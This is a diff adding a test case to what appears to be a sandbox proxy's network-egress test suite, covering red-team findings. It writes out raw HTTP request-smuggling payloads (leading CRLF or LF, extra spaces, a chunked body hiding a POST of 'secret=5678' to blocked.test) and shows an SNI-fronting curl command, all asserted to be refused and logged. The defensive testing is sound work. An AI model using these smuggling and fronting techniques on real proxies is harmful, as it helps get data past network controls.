@@ -132,6 +132,38 @@ describe('network egress', () => {
     assert.equal(own.stdout, 'hello from a host=allowed.test\n', own.stderr);
   });
 
+  it('decides every request in a tunnel that starts with empty lines or loose whitespace, and frames a GET\'s body (red team F1, F2)', async () => {
+    // Raw bytes from the sandbox to its proxy, as an attacker writes them (curl would tidy them up).
+    const rawToProxy = (payload: string) => sh(`node -e '
+      const s = require("net").connect(3128, "paddock-egress"); let o = "";
+      let quiet = setTimeout(() => s.destroy(), 8000);
+      s.on("data", (c) => { o += c; clearTimeout(quiet); quiet = setTimeout(() => s.destroy(), 1500); });
+      s.on("close", () => process.stdout.write(o)); s.on("error", () => {});
+      s.write(Buffer.from(process.argv[1], "base64"));' ${Buffer.from(payload).toString('base64')}`);
+    const denials = async () => JSON.parse((await paddockOk(['network', 'log', sb, '--json', '--decision', 'deny'])).stdout) as any[];
+    const tunnel = 'CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n';
+    const before = (await denials()).length;
+    for (const [name, request] of [
+      ['CRLF first', '\r\nPOST /exfil HTTP/1.1\r\nHost: blocked.test\r\nContent-Length: 11\r\nConnection: close\r\n\r\nsecret=1234'],
+      ['bare LF first', '\nGET /lf HTTP/1.1\r\nHost: blocked.test\r\nConnection: close\r\n\r\n'],
+      ['two spaces', 'GET  /secret HTTP/1.1\r\nHost: blocked.test\r\nConnection: close\r\n\r\n'],
+    ]) {
+      // The stand-in server answers for any Host, as a shared front would.
+      const r = await rawToProxy(tunnel + request);
+      assert.match(r.stdout, /^HTTP\/1\.1 200 Connection Established\r\n\r\nHTTP\/1\.1 400 Bad Request[\s\S]*X-Paddock-Rule: host header mismatch/, `${name}: ${r.stdout} ${r.stderr}`);
+      assert.doesNotMatch(r.stdout, /hello from/, name);
+    }
+    // A GET whose chunked body holds a request for blocked.test: the server reads it as the GET's body.
+    const smuggled = 'POST /smuggled HTTP/1.1\r\nHost: blocked.test\r\nContent-Length: 11\r\n\r\nsecret=5678';
+    const get = await rawToProxy(`GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${Buffer.byteLength(smuggled).toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`);
+    assert.match(get.stdout, /hello from a host=allowed\.test body=POST \/smuggled HTTP\/1\.1/, get.stderr);
+    assert.doesNotMatch(get.stdout, /host=blocked\.test\n/);
+    // Each refused request in a tunnel is a line of its own in the log.
+    const entries = (await denials()).slice(before);
+    const fronted = entries.filter((e) => e.host === 'allowed.test' && e.rule === 'host header mismatch' && e.method !== 'CONNECT');
+    assert.deepEqual(fronted.map((e) => e.method).sort(), ['GET', 'GET', 'POST'], JSON.stringify(entries));
+  });
+
   it('cuts a tunnel to an allowed host whose TLS asks for a denied one (SNI fronting)', async () => {
     // curl opens CONNECT allowed.test:443 but asks the server for blocked.test in its ClientHello.
     const r = await sh('curl -sS -m 10 -k --connect-to blocked.test:443:allowed.test:443 https://blocked.test/');
